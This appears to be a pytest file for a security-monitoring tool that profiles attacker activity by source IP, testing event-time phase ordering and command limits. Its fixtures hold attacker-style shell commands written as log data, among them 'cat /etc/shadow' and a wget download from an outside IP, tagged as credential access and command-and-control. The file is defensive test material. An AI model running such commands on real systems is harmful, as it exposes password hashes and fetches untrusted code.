"""The observation read model: ordering by event time, limits, unknown IPs."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from node.ingest.detect import parse_line
from node.profile.enrichment.service import Enricher
from node.profile.profiler import Profiler
from node.profile.stages import PROFILE_STAGES
from node.profile.views import observation_profile
from node.store import Store


def shell(time: str, host: str, command: str) -> bytes:
    return (f"<14>1 2026-03-02T{time}+00:00 {host} bash - - -  CMD uid=0 src=192.0.2.44"
            f" cmd={command}").encode()


@pytest.fixture
async def store(tmp_path: Path) -> AsyncIterator[Store]:
    opened = await Store.open(tmp_path / "node.db", profilers=[Profiler()], stages=PROFILE_STAGES)
    yield opened
    await opened.close()


async def test_phase_order_uses_event_time_not_text(store: Store) -> None:
    await store.write_batch([parse_line(line) for line in (
        shell("09:10:00.1", "web-02", "uname -a"),
        shell("09:10:00", "web-02", "crontab /tmp/c"),
        shell("09:11:00", "web-02", "cat /etc/shadow"),
        shell("09:09:00", "web-03", "wget http://203.0.113.80/x"),
    )])
    await store.catch_up()
    profile = await observation_profile(store, "192.0.2.44", Enricher.empty())
    assert profile is not None
    assert profile["phase_order"] == {
        "web-02": {"first": "persistence", "last": "credential_access"},
        "web-03": {"first": "command_and_control", "last": "command_and_control"},
    }


async def test_commands_are_the_most_recent_in_time_order(store: Store) -> None:
    await store.write_batch([parse_line(shell(f"09:1{i}:00", "web-02", f"echo {i}"))
                             for i in range(5)])
    await store.catch_up()
    profile = await observation_profile(store, "192.0.2.44", Enricher.empty(), command_limit=2)
    assert profile is not None
    assert profile["commands_total"] == 5
    assert [c["command"] for c in profile["commands"]] == ["echo 3", "echo 4"]


async def test_unknown_ip_has_no_profile(store: Store) -> None:
    assert await observation_profile(store, "192.0.2.99", Enricher.empty()) is None
